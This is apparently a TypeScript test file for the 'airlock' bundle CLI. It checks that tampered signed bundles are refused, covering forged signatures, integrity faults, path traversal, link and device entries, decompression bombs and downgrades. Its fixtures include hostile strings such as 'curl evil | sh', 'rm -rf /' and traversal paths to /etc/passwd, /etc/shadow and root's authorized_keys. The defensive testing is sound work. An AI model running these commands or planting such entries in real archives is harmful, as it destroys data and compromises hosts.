/**
 * Contract point 1, end to end: every kind of bad bundle is refused by the
 * real CLI with the right exit code, error class and reason, and a refused
 * bundle changes nothing on the host but one `refused` row in the journal.
 *
 * One good bundle (and a gzip-encoded twin) is built through `bundle build`;
 * each row of CASES derives one bad bundle from it.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { KeyObject } from 'node:crypto';
import { cp, mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { readJournal } from '../helpers/journal-read.js';
import { ExitCode, type ExitCodeName } from '../../src/errors/index.js';
import { blobEntryName, MANIFEST_ENTRY, SIGNATURE_ENTRY, type BlobRecord, type Manifest } from '../../src/bundle/manifest.js';
import { loadPrivateKey } from '../../src/trust/keys.js';
import { makeProject, makeSigner, runCli, tempDir, type CliResult, type Signer } from '../helpers/fixtures.js';
import {
  appendBytes,
  Bundle,
  fileEntry,
  flipByte,
  sha256,
  signatureFor,
  spanOf,
  specialEntry,
  truncateAt,
  listOrEmpty,
} from '../helpers/tamper.js';
import { Prng } from '../helpers/fuzz.js';

type RefusalClass = Extract<ExitCodeName, 'signature' | 'integrity' | 'unsafeEntry' | 'policy'>;

interface Ctx {
  dir: string;
  vendor: Signer;
  key: KeyObject;
  /** A valid Ed25519 key that no trust dir here trusts. */
  stranger: KeyObject;
  strangerId: string;
  trustRevoked: string;
  good: Buffer;
  gz: Buffer;
  expiredBuild: Buffer;
  goodB: Bundle;
  gzB: Bundle;
  /** State dir with an older release (0.9.0) of the same bundle imported. */
  baseState: string;
  /** The last blob entry of the good bundle that the base state lacks: refusing it means discarding staged blobs. */
  target: string;
  targetRecord: BlobRecord;
  /** How many blobs of the good bundle the base state lacks. */
  freshBlobs: number;
}

interface Case {
  name: string;
  make: (c: Ctx) => Buffer | Promise<Buffer>;
  error: RefusalClass;
  reason: string;
  /** Must name the problem (a function for rows whose message names a key made at run time). */
  message: RegExp | ((c: Ctx) => RegExp);
  trust?: (c: Ctx) => string;
  /** Bundles imported (and expected to succeed) into the case's state before the snapshot. */
  prepare?: (c: Ctx) => Buffer[];
  /** Also run `bundle verify` and expect the same refusal. */
  verify?: boolean;
}

const MiB = 1024 * 1024;
const GiB = 1024 * MiB;

/* ---- derivations used by several rows ---- */

const blobs = (c: Ctx) => c.goodB.blobNames;
const manifestOf = (c: Ctx): Manifest => c.goodB.manifest;
const resigned = (c: Ctx, change: (m: Manifest) => void): Buffer => {
  const m = manifestOf(c);
  change(m);
  return c.goodB.resign(m, c.key).pack();
};
const flipInData = (buf: Buffer, name: string, at = 0.5): Buffer => {
  const s = spanOf(buf, name);
  return flipByte(buf, s.dataOffset + Math.floor(s.size * at));
};
const envBlob = (c: Ctx): BlobRecord => {
  const m = manifestOf(c);
  const d = m.stacks[0]!.envFiles[0]!.digest;
  return m.blobs.find((b) => b.digest === d)!;
};
const flipSignature = (sig: Buffer): Buffer => {
  const rec = JSON.parse(sig.toString()) as { signature: string };
  const raw = Buffer.from(rec.signature, 'base64');
  raw[10]! ^= 0x40;
  return Buffer.from(JSON.stringify({ ...rec, signature: raw.toString('base64') }));
};
/** The gz bundle with its (gzip-encoded) compose file's stored bytes replaced, and the manifest re-signed to match them. */
const regzipped = (c: Ctx, change: (stored: Buffer) => Buffer): Buffer => {
  const m = c.gzB.manifest;
  const rec = m.blobs.find((b) => b.kind === 'stack-file')!;
  const name = blobEntryName(rec.digest);
  const stored = change(c.gzB.entry(name).data);
  rec.stored = { digest: sha256(stored), size: stored.length };
  return c.gzB.replace(name, (e) => ({ ...e, data: stored })).resign(m, c.key).pack();
};

const CASES: Case[] = [
  /* ---------------- signature (exit 10) ---------------- */
  {
    name: 'unsigned: manifest.sig removed',
    make: (c) => c.goodB.remove(SIGNATURE_ENTRY).pack(),
    error: 'signature', reason: 'unsigned', message: /unsigned/, verify: true,
  },
  {
    name: 'unsigned: manifest.sig moved behind the blobs',
    make: (c) => c.goodB.move(SIGNATURE_ENTRY, c.goodB.entries.length - 1).pack(),
    error: 'signature', reason: 'unsigned', message: /unsigned: manifest\.json is not followed by manifest\.sig/,
  },
  {
    name: 'unknown key: signed by a key the host does not trust',
    make: (c) => c.goodB.resign(c.goodB.manifestBytes, c.stranger).pack(),
    error: 'signature', reason: 'unknown-key', message: (c) => new RegExp(`bundle is signed by unknown key ${c.strangerId}`),
  },
  {
    name: 'revoked key: signer listed in the trust dir revoked file',
    make: (c) => c.good,
    trust: (c) => c.trustRevoked,
    error: 'signature', reason: 'revoked-key', message: (c) => new RegExp(`bundle is signed by revoked key ${c.vendor.keyId}`), verify: true,
  },
  {
    name: 'bad signature: signature bytes changed',
    make: (c) => c.goodB.withSignatureBytes(flipSignature(c.goodB.entry(SIGNATURE_ENTRY).data)).pack(),
    error: 'signature', reason: 'bad-signature', message: /signature by key [0-9a-f]{16} does not match manifest\.json/,
  },
  {
    name: 'bad signature: manifest changed after signing',
    make: (c) => {
      const m = manifestOf(c);
      m.description = 'now with a backdoor';
      return c.goodB.withManifestBytes(Buffer.from(JSON.stringify(sortedCopy(m)))).pack();
    },
    error: 'signature', reason: 'bad-signature', message: /does not match manifest\.json/,
  },
  {
    name: 'bad signature: one byte of the manifest flipped in the file',
    make: (c) => flipInData(c.good, MANIFEST_ENTRY, 0.3),
    error: 'signature', reason: 'bad-signature', message: /does not match manifest\.json/,
  },
  {
    name: 'bad signature: trusted key id, signed by another key',
    make: (c) => c.goodB.withSignatureBytes(signatureFor(c.goodB.manifestBytes, c.stranger, { keyId: c.vendor.keyId })).pack(),
    error: 'signature', reason: 'bad-signature', message: (c) => new RegExp(`signature by key ${c.vendor.keyId} does not match manifest\\.json`),
  },
  {
    name: 'malformed signature: manifest.sig is not JSON',
    make: (c) => c.goodB.withSignatureBytes(Buffer.from('-----BEGIN SIGNATURE-----\n')).pack(),
    error: 'signature', reason: 'malformed-signature', message: /manifest\.sig is malformed/,
  },
  {
    name: 'malformed signature: wrong algorithm',
    make: (c) => c.goodB.withSignatureBytes(signatureFor(c.goodB.manifestBytes, c.key, { algorithm: 'rsa-pss-sha256' })).pack(),
    error: 'signature', reason: 'malformed-signature', message: /manifest\.sig is malformed/,
  },
  {
    name: 'malformed signature: signature value cut short',
    make: (c) => {
      const rec = JSON.parse(c.goodB.entry(SIGNATURE_ENTRY).data.toString()) as { signature: string };
      return c.goodB.withSignatureBytes(signatureFor(c.goodB.manifestBytes, c.key, { signature: rec.signature.slice(0, 40) })).pack();
    },
    error: 'signature', reason: 'malformed-signature', message: /malformed/,
  },

  /* ---------------- integrity (exit 11) ---------------- */
  {
    name: 'hash mismatch: one byte of a blob flipped',
    make: (c) => flipInData(c.good, c.target),
    error: 'integrity', reason: 'hash-mismatch', message: /blobs\/sha256\/[0-9a-f]{64}: content hash is sha256:[0-9a-f]{64}, the manifest says/, verify: true,
  },
  {
    name: 'size mismatch: blob shorter than declared',
    make: (c) => c.goodB.replace(c.target, (e) => ({ ...e, data: e.data.subarray(0, e.data.length - 1) })).pack(),
    error: 'integrity', reason: 'size-mismatch', message: /is \d+ bytes, the manifest says \d+/,
  },
  {
    name: 'size mismatch: blob longer than declared',
    make: (c) => c.goodB.replace(c.target, (e) => ({ ...e, data: Buffer.concat([e.data, Buffer.from('\n#evil')]) })).pack(),
    error: 'integrity', reason: 'size-mismatch', message: /is \d+ bytes, the manifest says \d+/,
  },
  {
    name: 'size mismatch: manifest re-signed with a wrong size for a blob',
    make: (c) => resigned(c, (m) => void (m.blobs.find((b) => b.digest === envBlob(c).digest)!.size += 1)),
    error: 'integrity', reason: 'size-mismatch', message: /the manifest says \d+/,
  },
  {
    name: 'truncated: file cut in the middle of a blob',
    make: (c) => {
      const s = spanOf(c.good, c.target);
      return truncateAt(c.good, s.dataOffset + Math.floor(s.size / 2));
    },
    error: 'integrity', reason: 'truncated', message: /truncated/, verify: true,
  },
  {
    name: 'truncated: file cut inside the manifest',
    make: (c) => truncateAt(c.good, spanOf(c.good, MANIFEST_ENTRY).dataOffset + 40),
    error: 'integrity', reason: 'truncated', message: /truncated/,
  },
  {
    name: 'truncated: file cut inside a tar header',
    make: (c) => truncateAt(c.good, spanOf(c.good, c.target).headerOffset + 100),
    error: 'integrity', reason: 'truncated', message: /truncated/,
  },
  {
    name: 'missing entries: file cut at an entry boundary',
    make: (c) => truncateAt(c.good, spanOf(c.good, c.target).headerOffset),
    error: 'integrity', reason: 'missing-entry', message: /bundle ends before blobs\/sha256\/[0-9a-f]{64}: \d+ of \d+ blobs are missing/,
  },
  {
    name: 'extra entry: a blob appended after the last one',
    make: (c) => c.goodB.append(fileEntry(blobEntryName(sha256(Buffer.from('payload'))), 'payload')).pack(),
    error: 'integrity', reason: 'extra-entry', message: /is not listed in the manifest/,
  },
  {
    name: 'extra entry: a script inserted between blobs',
    make: (c) => c.goodB.insert(c.goodB.indexOf(blobs(c)[1]!), fileEntry('install.sh', '#!/bin/sh\ncurl evil | sh\n')).pack(),
    error: 'integrity', reason: 'extra-entry', message: /entry "install\.sh" is not listed in the manifest/,
  },
  {
    name: 'duplicate entry: a blob entry written twice',
    make: (c) => c.goodB.insert(c.goodB.indexOf(blobs(c)[0]!) + 1, c.goodB.entry(blobs(c)[0]!)).pack(),
    error: 'integrity', reason: 'duplicate-entry', message: /appears twice/,
  },
  {
    name: 'duplicate entry: a second manifest.json at the end',
    make: (c) => c.goodB.append(c.goodB.entry(MANIFEST_ENTRY)).pack(),
    error: 'integrity', reason: 'duplicate-entry', message: /entry "manifest\.json" appears twice/,
  },
  {
    name: 'out of order: two blobs swapped',
    make: (c) => c.goodB.swap(blobs(c)[1]!, blobs(c)[2]!).pack(),
    error: 'integrity', reason: 'out-of-order', message: /is out of order: the manifest lists it at position 3, found at 2/,
  },
  {
    name: 'out of order: manifest.sig before manifest.json',
    make: (c) => c.goodB.swap(MANIFEST_ENTRY, SIGNATURE_ENTRY).pack(),
    error: 'integrity', reason: 'out-of-order', message: /first entry is "manifest\.sig", expected manifest\.json/,
  },
  {
    name: 'missing entry: a blob where manifest.json should be',
    make: (c) => c.goodB.move(blobs(c)[0]!, 0).pack(),
    error: 'integrity', reason: 'missing-entry', message: /first entry is "blobs\/sha256\/[0-9a-f]{64}", expected manifest\.json/,
  },
  {
    name: 'not canonical: manifest pretty-printed, re-signed',
    make: (c) => c.goodB.resign(Buffer.from(JSON.stringify(sortedCopy(manifestOf(c)), null, 2)), c.key).pack(),
    error: 'integrity', reason: 'manifest-not-canonical', message: /not in canonical form/,
  },
  {
    name: 'not canonical: manifest with a duplicated key, re-signed',
    make: (c) => {
      const text = c.goodB.manifestBytes.toString().replace(/^\{/, '{"description":"harmless",');
      return c.goodB.resign(Buffer.from(text), c.key).pack();
    },
    error: 'integrity', reason: 'manifest-not-canonical', message: /not in canonical form/,
  },
  {
    name: 'manifest invalid: names a blob it does not list, re-signed',
    make: (c) => resigned(c, (m) => void (m.stacks[0]!.composeFiles[0]!.digest = sha256(Buffer.from('services: {}\n')))),
    error: 'integrity', reason: 'manifest-invalid', message: /names blob sha256:[0-9a-f]{64}, which the bundle does not list/,
  },
  {
    name: 'manifest invalid: fails the schema (unknown format), re-signed',
    make: (c) => resigned(c, (m) => void ((m as { format: string }).format = 'airlock.bundle.v9')),
    error: 'integrity', reason: 'manifest-invalid', message: /is in format "airlock\.bundle\.v9", which this airlock does not read/,
  },
  {
    name: 'manifest invalid: fails the schema (extra property), re-signed',
    make: (c) => resigned(c, (m) => void ((m as unknown as Record<string, unknown>).postInstall = 'rm -rf /')),
    error: 'integrity', reason: 'manifest-invalid', message: /does not match format/,
  },
  {
    name: 'manifest invalid: blob list not sorted, re-signed',
    make: (c) => {
      const m = manifestOf(c);
      [m.blobs[0], m.blobs[1]] = [m.blobs[1]!, m.blobs[0]!];
      return c.goodB.swap(blobs(c)[0]!, blobs(c)[1]!).resign(m, c.key).pack();
    },
    error: 'integrity', reason: 'manifest-invalid', message: /blob list is not sorted/,
  },
  {
    name: 'manifest invalid: version is not semver, re-signed',
    make: (c) => resigned(c, (m) => void (m.version = '1.0.x')),
    error: 'integrity', reason: 'manifest-invalid', message: /not a semantic version/,
  },
  {
    name: 'manifest invalid: a size beyond 2^53, re-signed',
    make: (c) => {
      const text = c.goodB.manifestBytes.toString().replace(/"mode":\d+/, '"mode":420').replace(/("size":)(\d+)/, '$19007199254740993');
      return c.goodB.resign(Buffer.from(text), c.key).pack();
    },
    error: 'integrity', reason: 'manifest-invalid', message: /not a safe integer|does not match format/,
  },
  {
    name: 'manifest invalid: expiry that is no date, re-signed',
    make: (c) => resigned(c, (m) => void (m.expires = '2099-13-45T25:61:61Z')),
    error: 'integrity', reason: 'manifest-invalid', message: /expires.*not a valid date/,
  },
  {
    // What a builder that forgot `requires` would write: an older airlock would load one of the two.
    name: 'manifest invalid: one ref on two images, without platforms, re-signed',
    make: (c) => resigned(c, (m) => void m.images[0]!.refs.push(m.images[1]!.refs[0]!)),
    error: 'integrity', reason: 'manifest-invalid', message: /image ref \S+ is listed twice; only a manifest that requires platforms may carry several variants of one ref, one per platform/, verify: true,
  },
  {
    name: 'manifest invalid: images name platforms, but the manifest does not require platforms, re-signed',
    make: (c) => resigned(c, (m) => {
      Object.assign(m, { format: 'airlock.bundle.v2', requires: [] });
      for (const i of m.images) i.platform = 'linux/amd64';
    }),
    error: 'integrity', reason: 'manifest-invalid', message: /names a platform, but the manifest does not require platforms/,
  },
  {
    name: 'manifest invalid: requires platforms, but an image names none, re-signed',
    make: (c) => resigned(c, (m) => {
      Object.assign(m, { format: 'airlock.bundle.v2', requires: ['platforms'] });
      m.images[0]!.platform = 'linux/amd64';
    }),
    error: 'integrity', reason: 'manifest-invalid', message: /requires platforms, but image \S+ names no platform/,
  },
  {
    name: 'manifest invalid: a platform in another spelling (linux/x86_64), re-signed',
    make: (c) => resigned(c, (m) => {
      Object.assign(m, { format: 'airlock.bundle.v2', requires: ['platforms'] });
      for (const i of m.images) i.platform = 'linux/amd64';
      m.images[1]!.platform = 'linux/x86_64';
    }),
    error: 'integrity', reason: 'manifest-invalid', message: /has platform "linux\/x86_64", which is not a platform in its one spelling/,
  },
  {
    name: 'manifest invalid: a platform that is no platform (upper case, four parts), re-signed',
    make: (c) => resigned(c, (m) => {
      Object.assign(m, { format: 'airlock.bundle.v2', requires: ['platforms'] });
      for (const i of m.images) i.platform = 'Linux/ARM/v7/x';
    }),
    error: 'integrity', reason: 'manifest-invalid', message: /does not match format airlock\.bundle\.v2: \/images\/0\/platform must match pattern/,
  },
  {
    name: 'manifest invalid: one ref twice for the same platform, re-signed',
    make: (c) => resigned(c, (m) => {
      Object.assign(m, { format: 'airlock.bundle.v2', requires: ['platforms'] });
      for (const i of m.images) i.platform = 'linux/arm/v7';
      m.images[0]!.refs.push(m.images[1]!.refs[0]!);
    }),
    error: 'integrity', reason: 'manifest-invalid', message: /image ref \S+ is listed twice for platform linux\/arm\/v7/,
  },
  {
    name: 'manifest invalid: a requirement this airlock does not know, named, re-signed',
    make: (c) => resigned(c, (m) => void Object.assign(m, { format: 'airlock.bundle.v2', requires: ['gpu'] })),
    error: 'integrity', reason: 'manifest-invalid', message: /requires "gpu", which this airlock does not support \(it supports delta, engine, platforms, receipt, sealed, zstd\)/,
  },
  {
    name: 'manifest malformed: not JSON, re-signed',
    make: (c) => c.goodB.resign(Buffer.from('format: airlock.bundle.v1\n'), c.key).pack(),
    error: 'integrity', reason: 'manifest-malformed', message: /manifest\.json is not valid JSON/,
  },
  {
    name: 'corrupt tar: a header checksum broken',
    make: (c) => flipByte(c.good, spanOf(c.good, c.target).headerOffset + 20, 0x04),
    error: 'integrity', reason: 'corrupt-tar', message: /not a valid tar stream/,
  },
  {
    name: 'corrupt tar: random bytes instead of a tar',
    make: () => new Prng(7).bytes(64 * 1024),
    error: 'integrity', reason: 'corrupt-tar', message: /not a valid tar stream/, verify: true,
  },
  {
    name: 'extra bytes: 4 KiB of garbage appended after the end of the archive',
    make: (c) => appendBytes(c.good, new Prng(8).bytes(4096)),
    error: 'integrity', reason: 'extra-entry', message: /bundle has bytes after its last entry that are not a tar entry/, verify: true,
  },
  {
    name: 'extra bytes: a short run of garbage (less than a tar block) after the end',
    make: (c) => appendBytes(c.good, Buffer.from('#!/bin/sh\nrm -rf /\n')),
    error: 'integrity', reason: 'extra-entry', message: /bundle has 19 stray bytes after its last entry/,
  },
  {
    name: 'truncated: end-of-archive trailer cut short',
    make: (c) => truncateAt(c.good, c.good.length - 700),
    error: 'integrity', reason: 'truncated', message: /truncated/,
  },
  {
    name: 'missing entry: empty file',
    make: () => Buffer.alloc(0),
    error: 'integrity', reason: 'missing-entry', message: /bundle is empty/,
  },
  {
    name: 'hash mismatch: a gzip blob corrupted in the file',
    make: (c) => flipInData(c.gz, blobEntryName(c.gzB.manifest.blobs.find((b) => b.encoding === 'gzip' && b.stored!.size > 64)!.digest)),
    error: 'integrity', reason: 'hash-mismatch', message: /hash is sha256:[0-9a-f]{64}, the manifest says|is corrupt/,
  },
  {
    name: 'hash mismatch: gzip blob with a bad CRC, stored digest re-signed to match',
    make: (c) => regzipped(c, (s) => flipByte(s, s.length - 6, 0x10)),
    error: 'integrity', reason: 'hash-mismatch', message: /is corrupt: its gzip data does not decode/,
  },
  {
    name: 'hash mismatch: gzip blob cut short, stored digest re-signed to match',
    make: (c) => regzipped(c, (s) => s.subarray(0, s.length - 20)),
    error: 'integrity', reason: 'hash-mismatch', message: /is corrupt: its gzip data does not decode/,
  },
  {
    name: 'size mismatch: gzip blob that decodes to other content, re-signed',
    make: (c) => regzipped(c, () => gzipSync(Buffer.from('services: {evil: {image: "evil:latest"}}\n'))),
    error: 'integrity', reason: 'size-mismatch', message: /decoded content is \d+ bytes, the manifest says \d+/,
  },
  {
    name: 'hash mismatch: gzip blob that decodes to same-size other content, re-signed',
    make: (c) => regzipped(c, (s) => gzipSync(flipByte(gunzipSync(s), 0, 0x20))),
    error: 'integrity', reason: 'hash-mismatch', message: /decoded content hash is sha256:[0-9a-f]{64}, the manifest says/,
  },

  /* ---------------- unsafe entries (exit 12) ---------------- */
  {
    name: 'path traversal: ../../etc/passwd entry',
    make: (c) => c.goodB.insert(2, fileEntry('../../etc/passwd', 'root::0:0::/root:/bin/sh\n')).pack(),
    error: 'unsafeEntry', reason: 'path-traversal', message: /entry 3 "\.\.\/\.\.\/etc\/passwd" climbs out of its folder/, verify: true,
  },
  {
    name: 'path traversal: absolute /etc/passwd entry',
    make: (c) => c.goodB.insert(2, fileEntry('/etc/passwd', 'root::0:0::/root:/bin/sh\n')).pack(),
    error: 'unsafeEntry', reason: 'path-traversal', message: /"\/etc\/passwd" is absolute/,
  },
  {
    name: 'path traversal: blob name that climbs out of blobs/sha256',
    make: (c) => c.goodB.replace(c.target, (e) => ({ ...e, name: 'blobs/sha256/../../../etc/cron.d/evil' })).pack(),
    error: 'unsafeEntry', reason: 'path-traversal', message: /climbs out of its folder/,
  },
  {
    name: 'path traversal: PAX header renames a blob to ../',
    make: (c) => c.goodB.replace(c.target, (e) => ({ ...e, pax: { path: '../../root/.ssh/authorized_keys' } })).pack(),
    error: 'unsafeEntry', reason: 'path-traversal', message: /"\.\.\/\.\.\/root\/\.ssh\/authorized_keys" climbs out/,
  },
  {
    name: 'link entry: a blob replaced by a symlink',
    make: (c) => c.goodB.replace(c.target, (e) => specialEntry(e.name, 'symlink', { linkname: '/etc/shadow' })).pack(),
    error: 'unsafeEntry', reason: 'link-entry', message: /is a symbolic link; bundles hold regular files only/,
  },
  {
    name: 'link entry: a hard link inserted',
    make: (c) => c.goodB.insert(2, specialEntry('blobs/passwd', 'link', { linkname: 'etc/passwd' })).pack(),
    error: 'unsafeEntry', reason: 'link-entry', message: /is a hard link/,
  },
  {
    name: 'device entry: a character device',
    make: (c) => c.goodB.insert(2, specialEntry('dev/mem', 'character-device', { devmajor: 1, devminor: 1 })).pack(),
    error: 'unsafeEntry', reason: 'device-entry', message: /is a character device/,
  },
  {
    name: 'device entry: a block device',
    make: (c) => c.goodB.append(specialEntry('dev/sda', 'block-device', { devmajor: 8, devminor: 0 })).pack(),
    error: 'unsafeEntry', reason: 'device-entry', message: /is a block device/,
  },
  {
    name: 'device entry: a FIFO',
    make: (c) => c.goodB.insert(c.goodB.indexOf(c.target), specialEntry('blobs/fifo', 'fifo')).pack(),
    error: 'unsafeEntry', reason: 'device-entry', message: /is a FIFO/,
  },
  {
    name: 'directory entry: blobs/ as a directory',
    make: (c) => c.goodB.insert(2, specialEntry('blobs/', 'directory')).pack(),
    error: 'unsafeEntry', reason: 'directory-entry', message: /is a directory/,
  },
  {
    name: 'oversized: a blob declared over the size limit (refused before reading)',
    make: (c) => {
      const huge = 100 * GiB;
      const rec: BlobRecord = { digest: sha256(Buffer.from('huge')), size: huge, kind: 'file', encoding: 'identity' };
      // The header claims 100 GiB but no data follows: reading it would end as "truncated".
      return c.goodB.addBlob(rec, Buffer.alloc(0), c.key, { size: huge }).pack();
    },
    error: 'unsafeEntry', reason: 'oversized-entry', message: /declares 100\.0 GiB, over the 64\.0 GiB limit/,
  },
  {
    name: 'decompression bomb: declared ratio beyond what gzip can do',
    make: (c) => {
      const stored = gzipSync(Buffer.alloc(1000));
      const rec: BlobRecord = { digest: sha256(Buffer.from('bomb')), size: 4 * GiB, kind: 'layer', encoding: 'gzip', stored: { digest: sha256(stored), size: stored.length } };
      return c.goodB.addBlob(rec, stored, c.key).pack();
    },
    error: 'unsafeEntry', reason: 'decompression-bomb', message: /claims to inflate \d+ bytes to \d+/,
  },
  {
    name: 'decompression bomb: gzip blob inflates beyond its declared size',
    make: (c) => {
      const content = Buffer.alloc(8 * MiB);
      const stored = gzipSync(content, { level: 9 });
      const rec: BlobRecord = { digest: sha256(content), size: 100_000, kind: 'layer', encoding: 'gzip', stored: { digest: sha256(stored), size: stored.length } };
      return c.goodB.addBlob(rec, stored, c.key).pack();
    },
    error: 'unsafeEntry', reason: 'decompression-bomb', message: /inflates beyond its declared 100000 bytes/, verify: true,
  },
  {
    name: 'path traversal: extra-file path with ../ in the manifest, re-signed',
    make: (c) => resigned(c, (m) => void (m.files[0]!.path = '../../etc/cron.d/evil')),
    error: 'unsafeEntry', reason: 'path-traversal', message: /file path "\.\.\/\.\.\/etc\/cron\.d\/evil" climbs out/,
  },
  {
    name: 'path traversal: absolute extra-file path in the manifest, re-signed',
    make: (c) => resigned(c, (m) => void (m.files[0]!.path = '/etc/sudoers.d/evil')),
    error: 'unsafeEntry', reason: 'path-traversal', message: /file path "\/etc\/sudoers\.d\/evil" is absolute/,
  },
  {
    name: 'oversized: manifest entry over 16 MiB',
    make: (c) => c.goodB.withManifestBytes(Buffer.alloc(17 * MiB, 0x20)).pack(),
    error: 'unsafeEntry', reason: 'oversized-entry', message: /manifest\.json is 17825792 bytes, over the 16777216 byte limit/,
  },
  {
    name: 'oversized: manifest.sig entry over 256 KiB (32 signatures of the largest form fit)',
    make: (c) => c.goodB.withSignatureBytes(Buffer.alloc(256 * 1024 + 1, 0x20)).pack(),
    error: 'unsafeEntry', reason: 'oversized-entry', message: /manifest\.sig is 262145 bytes, over the 262144 byte limit/,
  },
  {
    name: 'oversized: a PAX extended header over 4 MiB',
    make: (c) => c.goodB.replace(c.target, (e) => ({ ...e, pax: { comment: 'A'.repeat(5 * MiB) } })).pack(),
    error: 'unsafeEntry', reason: 'oversized-entry', message: /oversized extended tar header/,
  },

  /* ---------------- policy (exit 13) ---------------- */
  {
    name: 'expired: expiry in the past, re-signed',
    make: (c) => resigned(c, (m) => void (m.expires = '2021-06-01T00:00:00Z')),
    error: 'policy', reason: 'expired', message: /bundle demo 1\.0\.0 expired at 2021-06-01T00:00:00Z/,
  },
  {
    name: 'expired: built with SOURCE_DATE_EPOCH 40 days ago and expires: 30d',
    make: (c) => c.expiredBuild,
    error: 'policy', reason: 'expired', message: /bundle demo 1\.2\.0 expired at/, verify: true,
  },
  {
    name: 'downgrade: 1.0.0 after 1.1.0 was imported',
    prepare: (c) => [resigned(c, (m) => void (m.version = '1.1.0'))],
    make: (c) => c.good,
    error: 'policy', reason: 'downgrade', message: /demo 1\.0\.0 is older than 1\.1\.0, which this host already has/, verify: true,
  },
  {
    name: 'version conflict: same version, different content',
    prepare: (c) => [c.good],
    make: (c) => c.gz,
    error: 'policy', reason: 'version-conflict', message: /demo 1\.0\.0 was already imported with different content/,
  },
];

/** A copy with keys sorted, but not canonical bytes: for rows that write JSON by hand. */
function sortedCopy(v: unknown): unknown {
  if (Array.isArray(v)) return v.map(sortedCopy);
  if (v && typeof v === 'object') return Object.fromEntries(Object.keys(v).sort().map((k) => [k, sortedCopy((v as Record<string, unknown>)[k])]));
  return v;
}

/* ---- what "nothing changed" means ---- */

interface Snapshot {
  store: string[];
  staging: string[];
  bundles: unknown[];
  blobs: unknown[];
  bundleBlobs: unknown[];
  events: { id: number; kind: string; outcome: string; reason: string | null; message: string | null; details: string | null }[];
}

async function snapshot(state: string): Promise<Snapshot> {
  const blobDir = join(state, 'blobs', 'sha256');
  const store: string[] = [];
  for (const name of await listOrEmpty(blobDir)) store.push(`${name} ${(await stat(join(blobDir, name))).size}`);
  const staging = await listOrEmpty(join(state, 'blobs', 'staging'));
  return readJournal(state, (j) => ({ store, staging, bundles: j.bundles(), blobs: j.blobs(), bundleBlobs: j.bundleBlobs(), events: j.events() }));
}

function parseJsonLine(r: CliResult): Record<string, unknown> {
  const line = r.stdout.trim().split('\n').pop() ?? '';
  try {
    return JSON.parse(line) as Record<string, unknown>;
  } catch {
    assert.fail(`expected a JSON line on stdout, got exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`);
  }
}

const messageOf = (tc: Case, c: Ctx): RegExp => (typeof tc.message === 'function' ? tc.message(c) : tc.message);

function assertRefused(r: CliResult, tc: Case, c: Ctx, what: string): void {
  const out = parseJsonLine(r);
  const seen = `${what}: exit ${r.code}, ${JSON.stringify(out)}${r.stderr ? `\nstderr: ${r.stderr}` : ''}`;
  assert.equal(out.error, tc.error, seen);
  assert.equal(out.reason, tc.reason, seen);
  assert.equal(r.code, ExitCode[tc.error], seen);
  assert.equal(out.exitCode, ExitCode[tc.error], seen);
  assert.match(String(out.message), messageOf(tc, c), seen);
}

const slug = (s: string) => s.toLowerCase().replace(/[^a-z0-9]+/g, '-').slice(0, 60);

async function build(def: string, key: string, out: string, extra: string[] = [], env: NodeJS.ProcessEnv = {}): Promise<Buffer> {
  const r = await runCli(['bundle', 'build', '-f', def, '--key', key, '-o', out, '--json', ...extra], env);
  assert.equal(r.code, 0, `bundle build failed: ${r.stdout}${r.stderr}`);
  return readFile((JSON.parse(r.stdout) as { path: string }).path);
}

/** Good imports only store: they must not need a Docker Engine (`--no-load`, where import has it). */
let noLoad: Promise<string[]> | undefined;
const storeOnly = () => (noLoad ??= runCli(['bundle', 'import', '--help']).then((r) => (r.stdout.includes('--no-load') ? ['--no-load'] : [])));

async function importOk(file: string, state: string, trust: string): Promise<void> {
  const r = await runCli(['bundle', 'import', file, '--state', state, '--trust', trust, '--json', ...(await storeOnly())]);
  assert.equal(r.code, 0, `import of ${file} failed: ${r.stdout}${r.stderr}`);
}

describe('tampered bundles are refused and change nothing', { concurrency: 3 }, () => {
  let ctx: Ctx;
  let cleanup: () => Promise<void> = async () => {};

  before(async () => {
    const t = await tempDir('airlock-tamper-');
    cleanup = t.cleanup;
    const dir = t.dir;
    const vendor = await makeSigner(dir, 'vendor');
    const strangerSigner = await makeSigner(dir, 'stranger');
    const trustRevoked = join(dir, 'trust-revoked');
    await mkdir(trustRevoked);
    await cp(join(vendor.trustDir, 'vendor.pub'), join(trustRevoked, 'vendor.pub'));
    await writeFile(join(trustRevoked, 'revoked'), `# compromised 2024-05\n${vendor.keyId}\n`);

    const [oldDef, goodDef, expiredDef] = await Promise.all([
      makeProject(join(dir, 'p-old'), { version: '0.9.0', appText: 'the old app\n' }),
      makeProject(join(dir, 'p-good'), { version: '1.0.0' }),
      makeProject(join(dir, 'p-expired'), { version: '1.2.0', expires: '30d' }),
    ]);
    const fortyDaysAgo = String(Math.floor(Date.now() / 1000) - 40 * 86400);
    const [old, good, gz, expiredBuild] = await Promise.all([
      build(oldDef, vendor.keyPath, join(dir, 'out-old')),
      build(goodDef, vendor.keyPath, join(dir, 'out-good'), ['--compress', 'none']),
      build(goodDef, vendor.keyPath, join(dir, 'out-gz'), ['--compress', 'gzip']),
      build(expiredDef, vendor.keyPath, join(dir, 'out-expired'), [], { SOURCE_DATE_EPOCH: fortyDaysAgo }),
    ]);
    const baseState = join(dir, 'base-state');
    const oldFile = join(dir, 'old.airlock');
    await writeFile(oldFile, old);
    await importOk(oldFile, baseState, vendor.trustDir);

    const goodB = await Bundle.from(good);
    const gzB = await Bundle.from(gz);
    const oldDigests = new Set((await Bundle.from(old)).manifest.blobs.map((b) => b.digest));
    const fresh = goodB.manifest.blobs.filter((b) => !oldDigests.has(b.digest));
    const targetRecord = fresh[fresh.length - 1]!;
    ctx = {
      dir,
      vendor,
      key: await loadPrivateKey(vendor.keyPath),
      stranger: await loadPrivateKey(strangerSigner.keyPath),
      strangerId: strangerSigner.keyId,
      trustRevoked,
      good,
      gz,
      expiredBuild,
      goodB,
      gzB,
      baseState,
      target: blobEntryName(targetRecord.digest),
      targetRecord,
      freshBlobs: fresh.length,
    };
  });

  after(() => cleanup());

  it('the fixtures are what the rows assume', async () => {
    const m = ctx.goodB.manifest;
    assert.ok(m.blobs.length >= 4, 'needs several blobs');
    assert.ok(m.blobs.every((b) => b.encoding === 'identity'));
    assert.ok(ctx.gzB.manifest.blobs.every((b) => b.encoding === 'gzip'));
